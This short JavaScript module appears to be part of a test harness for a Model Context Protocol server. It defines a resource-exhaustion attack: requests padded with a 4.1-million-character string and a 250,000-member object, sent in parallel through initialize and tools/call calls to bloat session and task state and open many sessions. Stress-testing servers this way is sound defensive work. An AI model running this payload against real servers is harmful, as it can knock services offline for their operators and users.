import { initialize, modern } from '../requests.mjs';

const PAD = 'p'.repeat(4_100_000);
const TASKS = { extensions: { 'io.modelcontextprotocol/tasks': {} } };
const MEMBERS = Object.fromEntries(Array.from({ length: 250_000 }, (_, i) => [`m${i}`, {}]));

const REQUESTS = [
  initialize({ clientInfo: { name: 'attacker', version: '1', pad: PAD } }),
  initialize({ capabilities: { experimental: MEMBERS } }),
  initialize({ capabilities: { experimental: { pad: PAD } } }),
  modern('tools/call', { name: 'job', arguments: { pad: PAD } }, { capabilities: TASKS }),
  modern('tools/call', { name: 'job', arguments: {} }, { capabilities: { ...TASKS, experimental: { pad: PAD } } }),
  initialize(),
];

/** Large values in what a session or a task keeps, and as many sessions as possible. */
export const attack = (client) => client.lanes(REQUESTS.length, (lane) => client.send(REQUESTS[lane]));
